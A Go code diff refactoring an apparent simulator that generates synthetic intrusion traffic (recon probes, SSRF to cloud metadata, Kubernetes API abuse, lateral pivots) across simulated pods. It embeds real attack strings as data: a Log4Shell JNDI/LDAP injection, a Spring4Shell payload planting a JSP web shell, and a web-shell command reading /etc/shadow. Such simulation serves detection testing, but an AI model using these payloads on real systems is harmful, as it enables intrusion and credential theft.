@@ -3,6 +3,7 @@ package intrusion
 import (
 	"fmt"
 	"net/netip"
+	"slices"
 	"sort"
 	"strconv"
 	"time"
@@ -126,9 +127,7 @@ func (r *intruder) send(x *hop, from, to *pod, uri, agent string, status int, an
 			x.kind = "application/json"
 		}
 	}
-	if len(r.headers) == 0 || r.headers[0].name != "Accept" {
-		r.headers = append([]header{{"Accept", "*/*"}}, r.headers...)
-	}
+	r.headers = slices.Insert(r.headers, 0, header{"Accept", "*/*"})
 }
 
 func (r *intruder) body(x *hop, text string) {
@@ -139,39 +138,32 @@ func (r *intruder) body(x *hop, text string) {
 // recon: A asks every service that it finds for what may be there.
 func (r *intruder) recon(first, last float64) {
 	paths := []string{"/", "/admin", "/actuator/env", "/.env", "/swagger.json", "/v2/api-docs", "/debug/vars", "/server-status", "/console/", "/api/v1/users", "/.git/config", "/internal/config", "/login", "/graphql"}
-	n := 0
+	var targets []*fleet
 	for _, f := range r.world.fleets {
 		if !f.outside {
-			n += 2
+			targets = append(targets, f, f) // two pods of each
 		}
 	}
 	const each = 12
-	r.spread("recon", first, last, n*each, func(x *hop, i int) {
-		target := i / each
-		for _, f := range r.world.fleets {
-			if f.outside {
-				continue
-			}
-			if target -= 2; target >= 0 {
-				continue
-			}
-			to, status, answer := f.pods[(target+2)%len(f.pods)], 404, `{"error":"not_found"}`
-			switch k := r.IntN(20); {
-			case k < 3:
-				status, answer = 403, `{"error":"forbidden"}`
-			case k < 5:
-				status, answer = 401, `{"error":"unauthorized"}`
-			case k < 6:
-				status, answer = 200, `{"status":"ok"}`
-			case k < 8: // nobody listens, or speaks something else
-				status = 0
-			}
-			r.send(x, r.a, to, paths[(i%each+target+2*len(f.name))%len(paths)], curl, status, answer)
-			if status == 0 {
-				x.server = netip.AddrPortFrom(to.addr, pick(&r.maker, uint16(80), 8443, 9000, 5432))
-				x.host = x.server.String()
-			}
-			return
+	r.spread("recon", first, last, len(targets)*each, func(x *hop, i int) {
+		n := i / each
+		// The pods of now, as there may have been a rollout.
+		f := targets[n]
+		to, status, answer := f.pods[n%len(f.pods)], 404, `{"error":"not_found"}`
+		switch k := r.IntN(20); {
+		case k < 3:
+			status, answer = 403, `{"error":"forbidden"}`
+		case k < 5:
+			status, answer = 401, `{"error":"unauthorized"}`
+		case k < 6:
+			status, answer = 200, done
+		case k < 8: // nobody listens, or speaks something else
+			status = 0
+		}
+		r.send(x, r.a, to, paths[(i%each+n)%len(paths)], curl, status, answer)
+		if status == 0 {
+			x.server = netip.AddrPortFrom(to.addr, pick(&r.maker, uint16(80), 8443, 9000, 5432))
+			x.host = x.server.String()
 		}
 	})
 }
@@ -208,7 +200,7 @@ func (r *intruder) metadata(minute float64) {
 		outside := &pod{addr: r.attacker, node: &w.nodes[0]}
 		entry := gateway.pods[i%len(gateway.pods)]
 		r.at("ssrf-metadata", m, func(x *hop) {
-			x.host, x.kind, x.took = gateway.host, "text/plain", int64(19*time.Millisecond)
+			x.host, x.kind, x.took = publicHost, "text/plain", int64(19*time.Millisecond)
 			r.send(x, outside, entry, "/media/fetch?url="+target+path, curl, 200, answer)
 		})
 		r.at("ssrf-metadata", m+0.0001, func(x *hop) {
@@ -236,7 +228,6 @@ func (r *intruder) tokenUse(first, last float64) {
 }
 
 func (r *intruder) kubernetes(x *hop, uri string, status int, answer string) {
-	r.add("Accept", "application/json")
 	r.add("Authorization", r.token)
 	to := r.world.byName["kube-apiserver"]
 	x.host = to.host
@@ -287,7 +278,6 @@ func (r *intruder) pivots(first, second, third float64) {
 		to(r.b, r.c, "/orders?customer="+"%24%7Bjndi%3Aldap%3A%2F%2F"+r.b.addr.String()+"%3A1389%2Fa%7D", curl, 400, `{"error":"bad_request"}`),
 		to(r.b, r.c, "/orders/1", lookup, 404, `{"error":"not_found"}`),
 		func(x *hop) {
-			r.add("Accept", "*/*")
 			r.add("X-Api-Version", lookup)
 			r.send(x, r.b, r.c, "/orders?customer=100001&page=1", curl, 200, `{"orders":[],"page":1}`)
 		},
@@ -300,9 +290,9 @@ func (r *intruder) pivots(first, second, third float64) {
 		func(x *hop) {
 			r.body(x, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")
 			x.askKind = "application/x-www-form-urlencoded"
-			r.send(x, r.c, r.d, "/accounts/1", curl, 200, `{"status":"ok"}`)
+			r.send(x, r.c, r.d, "/accounts/1", curl, 200, done)
 		},
-		to(r.c, r.d, "/tomcatwar.jsp?pwd=j&cmd=cat+/etc/shadow", curl, 200, `{"status":"ok"}`),
+		to(r.c, r.d, "/tomcatwar.jsp?pwd=j&cmd=cat+/etc/shadow", curl, 200, done),
 	)
 }
 
